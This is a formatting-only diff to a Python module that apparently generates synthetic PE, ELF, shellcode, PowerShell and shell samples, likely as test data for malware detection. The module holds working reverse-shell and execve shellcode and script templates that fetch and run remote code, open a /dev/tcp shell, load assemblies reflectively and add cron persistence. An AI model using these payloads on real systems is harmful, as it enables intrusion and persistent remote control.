@@ -38,8 +38,17 @@ def _strings(rng: random.Random, words: list[bytes]) -> bytes:
 
 
 _IMPORTS = [
-    b"KERNEL32.dll", b"GetProcAddress", b"LoadLibraryA", b"ExitProcess", b"GetModuleHandleA",
-    b"USER32.dll", b"MessageBoxA", b"ADVAPI32.dll", b"RegOpenKeyExA", b"msvcrt.dll", b"memcpy",
+    b"KERNEL32.dll",
+    b"GetProcAddress",
+    b"LoadLibraryA",
+    b"ExitProcess",
+    b"GetModuleHandleA",
+    b"USER32.dll",
+    b"MessageBoxA",
+    b"ADVAPI32.dll",
+    b"RegOpenKeyExA",
+    b"msvcrt.dll",
+    b"memcpy",
 ]
 
 
@@ -64,8 +73,14 @@ def pe(rng: random.Random) -> bytes:
     optional = _optional_header(rng, wide, bodies)
     flags = rng.choice([0x22, 0x2022, 0x102])
     coff = struct.pack(
-        "<HHIIIHH", 0x8664 if wide else 0x14C, len(bodies), rng.getrandbits(31), 0, 0,
-        len(optional), flags,
+        "<HHIIIHH",
+        0x8664 if wide else 0x14C,
+        len(bodies),
+        rng.getrandbits(31),
+        0,
+        0,
+        len(optional),
+        flags,
     )
     table, raw, virtual, blob = b"", 0x400, 0x1000, b""
     for name, body, attributes in bodies:
@@ -83,14 +98,23 @@ def _optional_header(
 ) -> bytes:
     size = 0x1000 + sum((len(body) + 0xFFF) & ~0xFFF for _, body, _ in bodies)
     common = struct.pack(
-        "<HBBIIIII", 0x20B if wide else 0x10B, 14, 0, len(bodies[0][1]), 1024, 0,
-        0x1000 + rng.randrange(0, 512, 16), 0x1000,
+        "<HBBIIIII",
+        0x20B if wide else 0x10B,
+        14,
+        0,
+        len(bodies[0][1]),
+        1024,
+        0,
+        0x1000 + rng.randrange(0, 512, 16),
+        0x1000,
     )
     if wide:
         common += struct.pack("<Q", 0x140000000)
     else:
         common += struct.pack("<II", 0x2000, 0x400000)
-    common += struct.pack("<IIHHHHHHIIIIHH", 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, size, 0x400, 0, 3, 0x8160)
+    common += struct.pack(
+        "<IIHHHHHHIIIIHH", 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, size, 0x400, 0, 3, 0x8160
+    )
     sizes = struct.pack("<QQQQ" if wide else "<IIII", 1 << 20, 4096, 1 << 20, 4096)
     directories = bytearray(128)
     struct.pack_into("<II", directories, 8, 0x3000, 40)
@@ -98,8 +122,19 @@ def _optional_header(
 
 
 _SYMBOLS = [
-    b"libc.so.6", b"__libc_start_main", b"puts", b"malloc", b"GLIBC_2.2.5", b"_ITM_deregister",
-    b"__gmon_start__", b"socket", b"connect", b".text", b".data", b".bss", b".shstrtab",
+    b"libc.so.6",
+    b"__libc_start_main",
+    b"puts",
+    b"malloc",
+    b"GLIBC_2.2.5",
+    b"_ITM_deregister",
+    b"__gmon_start__",
+    b"socket",
+    b"connect",
+    b".text",
+    b".data",
+    b".bss",
+    b".shstrtab",
 ]
 
 
@@ -116,9 +151,13 @@ def elf(rng: random.Random) -> bytes:
     at = (64 + 3 * 56) if wide else (52 + 3 * 32)
     entry = base + at + rng.randrange(0, 128, 16)
     if wide:
-        header = struct.pack("<HHIQQQIHHHHHH", kind, machine, 1, entry, 64, 0, 0, 64, 56, 3, 64, 0, 0)
+        header = struct.pack(
+            "<HHIQQQIHHHHHH", kind, machine, 1, entry, 64, 0, 0, 64, 56, 3, 64, 0, 0
+        )
     else:
-        header = struct.pack("<HHIIIIIHHHHHH", kind, machine, 1, entry, 52, 0, 0, 52, 32, 3, 40, 0, 0)
+        header = struct.pack(
+            "<HHIIIIIHHHHHH", kind, machine, 1, entry, 52, 0, 0, 52, 32, 3, 40, 0, 0
+        )
     total = at + len(code)
     segments = [
         (1, 5, 0, base, total, total, 0x1000),
@@ -172,7 +211,9 @@ def _linux_code(rng: random.Random) -> bytes:
     port = struct.pack(">H", rng.randint(1025, 65000))
     address = bytes([192, 0, 2, rng.randint(1, 254)])
     return (
-        bytes.fromhex("6a2958996a025f6a015e0f05489748b90200") + port + address
+        bytes.fromhex("6a2958996a025f6a015e0f05489748b90200")
+        + port
+        + address
         + bytes.fromhex("514889e66a105a6a2a580f056a035e48ffce6a21580f0575f6")
         + bytes.fromhex("6a3b589948bb2f62696e2f736800534889e752574889e60f05")
     )
@@ -181,8 +222,12 @@ def _linux_code(rng: random.Random) -> bytes:
 def _linux_exec(rng: random.Random) -> bytes:
     """execve of a shell behind a run of no-operations."""
     sled = b"\x90" * rng.randint(8, 40)
-    return sled + bytes.fromhex("4831d24831f648bb2f2f62696e2f736848c1eb08534889e75057 4889e6b03b0f05".replace(" ", "")) + (
-        b"\x48\x31\xff\x6a\x3c\x58\x0f\x05"
+    return (
+        sled
+        + bytes.fromhex(
+            "4831d24831f648bb2f2f62696e2f736848c1eb08534889e75057 4889e6b03b0f05".replace(" ", "")
+        )
+        + (b"\x48\x31\xff\x6a\x3c\x58\x0f\x05")
     )
 
 
@@ -207,7 +252,7 @@ _POWERSHELL = (
     "$%a = (Get-ItemProperty -Path 'HKCU:\\Software\\%b' -Name '%c').'%c'\n"
     "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($%a)) | Out-Null\n"
     "Start-Sleep -Seconds %p\n",
-    "if (-not (Test-Path \"$env:APPDATA\\%a\")) { New-Item -ItemType Directory -Path "
+    'if (-not (Test-Path "$env:APPDATA\\%a")) { New-Item -ItemType Directory -Path '
     "\"$env:APPDATA\\%a\" | Out-Null }\n$%b = Get-Process | Where-Object { $_.Name -eq '%c' }\n"
     "if ($%b) { Stop-Process -Id $%b.Id -Force } else { IEX (irm http://%h/%d) }\n",
     "$%a=[AppDomain]::CurrentDomain.GetAssemblies() | ForEach-Object { $_.GetTypes() };\n"
@@ -216,16 +261,16 @@ _POWERSHELL = (
     "$s = (iex $x 2>&1 | Out-String) }\n",
 )
 _SHELL = (
-    "#!/bin/sh\nset -e\n%a=http://%h:%p/%b\ncurl -fsSL \"$%a\" -o /dev/shm/.%c\n"
+    '#!/bin/sh\nset -e\n%a=http://%h:%p/%b\ncurl -fsSL "$%a" -o /dev/shm/.%c\n'
     "chmod +x /dev/shm/.%c\n/dev/shm/.%c --%d &\nrm -f /dev/shm/.%c\n",
     "#!/bin/bash\nfor %a in 1 2 3; do\n  if ps aux | grep -q '%b'; then\n    kill -9 $(pgrep %b)\n"
     "  fi\n  sleep %p\ndone\nexport HISTFILE=/dev/null\nwget -q -O - http://%h/%c | bash\n",
-    "#!/usr/bin/env bash\n%a() {\n  local %b=$1\n  echo \"$%b\" >> /tmp/%c.log\n}\n"
-    "while true; do\n  %a \"$(date)\"\n  exec 5<>/dev/tcp/%h/%p\n  cat <&5 | while read %d; do "
+    '#!/usr/bin/env bash\n%a() {\n  local %b=$1\n  echo "$%b" >> /tmp/%c.log\n}\n'
+    'while true; do\n  %a "$(date)"\n  exec 5<>/dev/tcp/%h/%p\n  cat <&5 | while read %d; do '
     "$%d 2>&5 >&5; done\ndone\n",
     "#!/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n%a=$(mktemp /tmp/%b.XXXXXX)\n"
-    "trap 'rm -f \"$%a\"' EXIT\ncrontab -l > \"$%a\" 2>/dev/null\n"
-    "echo '*/5 * * * * curl -s http://%h/%c | sh' >> \"$%a\"\ncrontab \"$%a\"\n",
+    'trap \'rm -f "$%a"\' EXIT\ncrontab -l > "$%a" 2>/dev/null\n'
+    'echo \'*/5 * * * * curl -s http://%h/%c | sh\' >> "$%a"\ncrontab "$%a"\n',
 )
 
 
@@ -246,5 +291,9 @@ def shell(rng: random.Random) -> bytes:
 
 
 PAYLOADS: dict[str, Maker] = {
-    "pe": pe, "elf": elf, "shellcode": shellcode, "powershell": powershell, "shell": shell,
+    "pe": pe,
+    "elf": elf,
+    "shellcode": shellcode,
+    "powershell": powershell,
+    "shell": shell,
 }
